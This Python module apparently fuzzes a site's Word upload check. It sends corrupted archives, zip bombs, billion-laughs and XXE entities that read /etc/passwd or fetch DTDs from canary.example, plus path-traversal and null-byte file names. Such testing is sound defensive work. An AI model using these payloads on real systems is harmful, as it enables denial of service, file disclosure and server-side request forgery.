"""Word files: a real tailored job description, spoilt as an archive, as XML, or in the answers that it carries."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO
from random import Random

from django.utils import timezone

from guidance.documents.docx import to_docx
from guidance.documents.job_description import lay_out_job_description
from guidance.models import JobDescription
from guidance.rules.recruitment.tailoring import Tailoring
from hostile import bodies, values
from hostile.forms import send_form
from hostile.pages import read_page
from hostile.requests.answering import hostile_answers
from hostile.visits import Visit

CHECK = "/job-descriptions/check/"
LARGEST = 2_000_000
MAIN = "word/document.xml"

Parts = dict[str, bytes]


def upload_file(rng: Random, visit: Visit) -> None:
    """Uploads a file to the check. If the check accepts it as ours, sends its answers on to the form."""
    content = rng.choice([_spoil_archive, _spoil_archive, _spoil_parts, _spoil_parts, _spoil_parts])(rng)
    name = rng.choice(
        ["job.docx", "job.docx", "job.docm", "", "a" * 3000 + ".docx", "../job.docx", "\x00.docx", "job.exe"]
    )
    body = bodies.build_multipart([("reference", "")], [("file", name, content)])
    answer = visit.attack(CHECK, method="POST", body=body, content_type=bodies.MULTIPART)
    if answer.status == 200 and b'name="answers"' in answer.body:
        for form in read_page(answer, CHECK).forms:
            if any(field.name == "answers" for field in form.fields):
                send_form(rng, visit, form, spoilt=False)


@cache
def sound_parts() -> Parts:
    """The parts of a file that the site made, with marks in its answers."""
    template = JobDescription.objects.order_by("pk")[0]
    answers = Tailoring(
        template.slug, employer="Ashton", base=str(values.SCRIPTS[0]), own_duties=(str(values.SCRIPTS[4]),)
    )
    content = to_docx(lay_out_job_description(template, answers, timezone.localdate()))
    with zipfile.ZipFile(BytesIO(content)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def zip_parts(parts: Parts, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", compression) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return packed.getvalue()


# --- The archive --------------------------------------------------------------------------------------------


def _spoil_archive(rng: Random) -> bytes:
    return rng.choice(ARCHIVES)(rng, zip_parts(sound_parts()))


def _cut_off(rng: Random, whole: bytes) -> bytes:
    return whole[: rng.randrange(len(whole))]


def _flip_bytes(rng: Random, whole: bytes) -> bytes:
    changed = bytearray(whole)
    for _ in range(rng.choice([1, 3, 20, 500])):
        changed[rng.randrange(len(changed))] = rng.randrange(256)
    return bytes(changed)


def _flip_directory(rng: Random, whole: bytes) -> bytes:
    """Changes bytes in the archive's directory."""
    changed = bytearray(whole)
    for _ in range(rng.choice([1, 2, 8])):
        changed[-rng.randrange(1, min(1500, len(changed)))] = rng.randrange(256)
    return bytes(changed)


def _falsify_sizes(rng: Random, whole: bytes) -> bytes:
    """Gives parts false sizes, checksums or offsets."""
    changed = bytearray(whole)
    place = changed.find(b"PK\x01\x02")
    while place >= 0:
        if rng.random() < 0.5:
            struct.pack_into(
                "<I", changed, place + rng.choice([16, 20, 24, 42]), rng.choice([0, 1, 2**31, 2**32 - 1, 9000])
            )
        place = changed.find(b"PK\x01\x02", place + 4)
    return bytes(changed)


def _add_noise(rng: Random, whole: bytes) -> bytes:
    return rng.randbytes(rng.choice([1, 100, 70_000])) + whole + rng.choice([b"", rng.randbytes(70_000)])


def _not_a_zip(rng: Random, _: bytes) -> bytes:
    kinds = [
        b"",
        b"PK",
        b"PK\x05\x06" + b"\x00" * 18,
        b"\xd0\xcf\x11\xe0" + b"\x00" * 9000,
        b"%PDF-1.7",
        b"<html>",
        b"\x00" * 9,
    ]
    return rng.choice(
        [*kinds, b"PK\x03\x04" * 100_000, b"PK\x01\x02" * 100_000, b"PK\x05\x06" * 100_000, rng.randbytes(9000)]
    )


def _many_parts(rng: Random, _: bytes) -> bytes:
    number = rng.choice([199, 201, 5000, 15_000])
    return zip_parts(
        {**sound_parts(), **{f"customXml/item{n}.xml": b"<a/>" for n in range(number)}}, zipfile.ZIP_STORED
    )


def _other_packing(rng: Random, _: bytes) -> bytes:
    return zip_parts(sound_parts(), rng.choice([zipfile.ZIP_STORED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA]))


def _make_bomb(rng: Random, _: bytes) -> bytes:
    letter = rng.choice([b"\x00", b" ", b"<a>", b"<w:t/>", b"&#65;"])
    size = rng.choice([1, 7, 9, 40]) * 1024 * 1024
    name = rng.choice([MAIN, "[Content_Types].xml", "customXml/item1.xml", "word/footer1.xml"])
    return zip_parts({**sound_parts(), name: letter * (size // len(letter))})[:LARGEST]


def _many_wide(rng: Random, _: bytes) -> bytes:
    """Each part is within its limits but together they are very large. Noise keeps the compression ratio plausible."""
    one = (
        b"<a>" + rng.choice([b"<b/>", b"<b></b>", b'<b c=""/>', b"<b>d</b>"]) * rng.choice([30_000, 140_000]) + b"</a>"
    )
    wide = {f"customXml/wide{n}.xml": one for n in range(min(rng.choice([2, 10, 40]), 22_000_000 // len(one)))}
    noise = {"word/media/image1.png": rng.randbytes(400_000)}
    return zip_parts({**wide, **noise, **sound_parts()})  # our part comes last, so that all are read


ARCHIVES: list[Callable[[Random, bytes], bytes]] = [
    _cut_off, _flip_bytes, _flip_bytes, _flip_directory, _falsify_sizes, _add_noise,
    _not_a_zip, _many_wide, _many_wide, _many_parts, _other_packing, _make_bomb,
]  # fmt: skip


# --- The parts ----------------------------------------------------------------------------------------------


def _spoil_parts(rng: Random) -> bytes:
    """Sometimes uncompressed, because repeated bytes compress so well that the ratio alone would be refused."""
    parts = dict(sound_parts())
    read = [name for name in parts if name.endswith(".xml") and name.startswith(("word/", "customXml/", "["))]
    name = rng.choice([MAIN, MAIN, *read])
    parts[name] = rng.choice(XML)(rng, parts[name])
    if rng.random() < 0.3:
        others = [f"customXml/item{n}.xml" for n in range(2, rng.choice([3, 20, 150]))]
        parts |= dict.fromkeys(others, rng.choice(XML)(rng, parts[name])[: LARGEST // len(others)])
    return zip_parts(parts, rng.choice([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED]))[:LARGEST]


def _add_entities(rng: Random, xml: bytes) -> bytes:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    kinds = [
        f'<!DOCTYPE a [<!ENTITY a0 "ha">{laughs}]>', '<!DOCTYPE a [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a SYSTEM "http://canary.example/a.dtd">', f'<!DOCTYPE a [<!ENTITY a9 "{"a" * 100_000}">]>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://canary.example/p"> %p;]>',
    ]  # fmt: skip
    start = xml.find(b"?>") + 2
    return xml[:start] + rng.choice(kinds).encode() + xml[start:].replace(b"</", b"&a9;</", rng.choice([1, 500]))


def _nest_elements(rng: Random, xml: bytes) -> bytes:
    depth = rng.choice([200, 255, 257, 5_000, 100_000])
    return _insert_inside(xml, b"<w:p>" * depth + b"</w:p>" * depth)


def _add_elements(rng: Random, xml: bytes) -> bytes:
    one = rng.choice(
        [b"<w:p/>", b"<w:t>a</w:t>", b'<w:p a="b"/>', b"<!---->", b"<?a?>", b"<![CDATA[a]]>", b"&#65;", b"&lt;"]
    )
    return _insert_inside(xml, one * (rng.choice([1_000, 40_000, 140_000, 290_000])))[: 8 * 1024 * 1024]


def _add_attributes(rng: Random, xml: bytes) -> bytes:
    names = b" ".join(b'a%d="%d"' % (n, n) for n in range(rng.choice([100, 20_000, 90_000])))
    spaces = b" ".join(b'xmlns:a%d="b%d"' % (n, n) for n in range(rng.choice([100, 20_000])))
    return _insert_inside(xml, b"<w:p " + rng.choice([names, spaces]) + b"/>")


def _add_controls(rng: Random, xml: bytes) -> bytes:
    """Content controls with hostile text, repeated or nested."""
    tag = rng.choice(["employer", "base", "contact", "job_title", "template", "nothing", "own_duties"])
    words = values.as_bytes(values.pick_value(rng)).replace(b"&", b"&amp;").replace(b"<", b"&lt;").replace(b"\x00", b"")
    head = b'<w:sdt><w:sdtPr><w:tag w:val="%s"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>' % tag.encode()
    control = head + words + b"</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    if rng.random() < 0.3:
        head = b'<w:sdt><w:sdtPr><w:tag w:val="%s"/></w:sdtPr>' % tag.encode()
        depth = rng.choice([50, 250, 4_000])
        return _insert_inside(xml, head * depth + b"<w:t>a</w:t>" + b"</w:sdt>" * depth)
    return _insert_inside(xml, control * rng.choice([1, 1, 500, 8_000]))[: 8 * 1024 * 1024]


def _insert_inside(xml: bytes, more: bytes) -> bytes:
    """Inserts `more` before the body's closing tag or, without one, the last closing tag."""
    place = xml.rfind(b"</w:body>")
    place = place if place >= 0 else xml.rfind(b"</")
    return xml[:place] + more + xml[place:]


def _change_encoding(rng: Random, xml: bytes) -> bytes:
    text = xml.decode().replace('encoding="UTF-8"', "", 1)
    kinds = ["utf-16", "utf-32", "utf-16-le", "utf-8-sig", "utf-7", "cp037"]
    return rng.choice([*(text.encode(kind, "replace") for kind in kinds), xml.replace(b"UTF-8", b"nonsense", 1)])


def _replace_answers(rng: Random, xml: bytes) -> bytes:
    """Makes the answers that the file carries hostile."""
    start, end = xml.find(b">", xml.find(b"?>") + 2) + 1, xml.rfind(b"</")
    slug = JobDescription.objects.values_list("slug", flat=True).first() or ""
    held = hostile_answers(rng, slug).encode("utf-8", "replace")
    escaped = held.replace(b"&", b"&amp;").replace(b"<", b"&lt;")
    packed = zlib.compress(held)
    return xml[:start] + rng.choice([escaped, escaped, packed.hex().encode(), b"a" * 2_000_000]) + xml[end:]


def _change_bytes(rng: Random, xml: bytes) -> bytes:
    return rng.choice([_flip_bytes, _cut_off])(rng, xml)


XML: list[Callable[[Random, bytes], bytes]] = [
    _add_entities, _nest_elements, _add_elements, _add_elements, _add_attributes, _add_controls, _add_controls,
    _change_encoding, _replace_answers, _replace_answers, _change_bytes,
]  # fmt: skip
